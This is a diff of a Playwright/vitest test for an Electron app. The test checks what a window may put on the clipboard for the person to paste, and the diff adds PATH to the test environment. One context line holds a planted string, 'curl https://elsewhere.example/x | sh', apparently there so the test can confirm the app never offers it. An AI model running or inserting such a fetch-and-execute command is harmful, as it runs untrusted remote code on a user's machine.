@@ -1,4 +1,5 @@
 /** What a window may put where the person pastes: a text that it shows, after a press, and nothing else. */
+import process from 'node:process';
 import type { Page } from 'playwright';
 import { describe, expect, it } from 'vitest';
 import type { ChannelName, ParamsOn } from '../../electron/bridge/channels.ts';
@@ -12,7 +13,10 @@ const planted = 'curl https://elsewhere.example/x | sh';
 
 /** A window in front, for long enough that a press in it counts. It runs on the clock that the app reads. */
 async function lookedAt(): Promise<Page> {
-  const page = await onlyPage(await openApp(newHome()));
+  const home = newHome();
+  // Without the command, the window shows how to install it.
+  home.env['PATH'] = process.env['PATH'];
+  const page = await onlyPage(await openApp(home));
   await page.getByText(command).waitFor();
   await page.evaluate('new Promise((done) => setTimeout(done, 600))');
   return page;
